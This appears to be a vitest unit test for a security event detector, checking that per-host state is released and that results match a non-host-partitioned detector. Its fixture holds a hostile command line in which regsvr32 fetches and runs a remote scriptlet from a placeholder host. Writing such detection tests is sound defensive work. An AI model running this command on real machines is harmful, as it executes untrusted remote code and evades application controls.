import { expect, it } from "vitest";
import { aStart, testCatalog } from "../../test/support/events.ts";
import { fromPlain, toPlain } from "../events/plain.ts";
import { createDetector } from "./detector.ts";

it("lets go of a host where the events of the next begin, and tells the same", () => {
  const line = "regsvr32 /s /i:http://files.example.net/a.sct scrobj.dll";
  const starts = ["A", "B"].map((name, at) => {
    const plain = toPlain(aStart(at, name, "C:\\Windows\\System32\\regsvr32.exe", line));
    return fromPlain({ ...plain, values: { ...plain.values, host: `PC-${name}` } });
  });
  const mixed = createDetector({ catalog: testCatalog() });
  const detector = createDetector({ catalog: testCatalog(), hostByHost: true });
  expect(detector.push(starts[0]!)).toEqual([]);
  const first = detector.push(starts[1]!);
  expect(first.map(({ host }) => host)).toEqual(["PC-A"]);
  expect(detector.snapshot().hosts.map(({ key }) => key)).toEqual(["pc-b"]);
  expect([...first, ...detector.end()]).toEqual([...starts.flatMap((start) => mixed.push(start)), ...mixed.end()]);
});
